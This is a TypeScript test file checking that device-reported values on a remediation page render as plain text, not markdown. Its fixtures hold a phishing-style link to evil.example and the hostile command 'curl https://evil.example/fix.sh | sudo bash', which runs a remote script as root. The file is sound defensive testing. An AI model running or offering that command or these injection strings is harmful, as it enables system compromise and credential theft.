/**
 * Issue #15 item 3: values an agent reports are text on the remediation page, never markup. A device
 * reports the attack strings of the issue in the columns a shipped check message interpolates (an SSH
 * server's process name and address); the real page, opened from the gateway's remediation link over
 * HTTPS, shows them as text: no link, no emphasis, no list.
 */
import { expect } from 'chai';
import { ManualClock } from '../../server/shared/clock.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { must } from '../support/must.js';
import { enrollDevice } from '../gateway/baseline.js';

const LINK = '**URGENT** [Click here to restore access](https://evil.example/login)';
const LIST = '0.0.0.0\n\n1. Open a terminal\n2. Run curl https://evil.example/fix.sh | sudo bash\n- `done`';

describe('values from result rows are text on the remediation page (issue #15, item 3)', function () {
  this.timeout(60_000);
  const clock = new ManualClock();
  let ts: TestServer;
  before(async () => {
    ts = await startTestServer({ clock });
  });
  after(async () => ts.stop());

  it('renders a row’s link, emphasis, newlines and list markers as text', async () => {
    const d = await enrollDevice(ts.client, ts.enrollSecret, 'linux', 'MD-ATTACK-1');
    const now = clock.now() / 1000;
    await d.report({ unixTime: now });
    await d.reportCheck('linux_ssh_not_exposed', [{ address: LIST, port: '22', name: LINK }], now);
    const q = new URLSearchParams({ serial: d.serial, resource: 'prod-db' });
    const v = (await ts.client.request(`/api/v1/verdict?${q}`, { token: ts.gatewayToken })).json as {
      decision: string;
      remediation_page: string | null;
    };
    expect(v.decision).to.equal('deny');
    const page = await ts.client.request(must(v.remediation_page, 'the remediation link'), {
      headers: { accept: 'text/html' },
    });
    expect(page.status).to.equal(200);
    const body = page.text;
    expect(body, 'the check failed with the reported values').to.contain('Click here to restore access');
    expect(body).to.not.match(/<a [^>]*href="https:\/\/evil\.example/);
    expect(body).to.not.contain('<strong>URGENT</strong>');
    expect(body).to.not.match(/<li>[^<]*Run curl/);
    expect(body).to.not.contain('<code>done</code>');
    // the values read as written, on one line
    expect(body).to.contain('**URGENT** [Click here to restore access](https://evil.example/login)');
    expect(body).to.contain('0.0.0.0 1. Open a terminal 2. Run curl https://evil.example/fix.sh | sudo bash - `done`');
  });
});
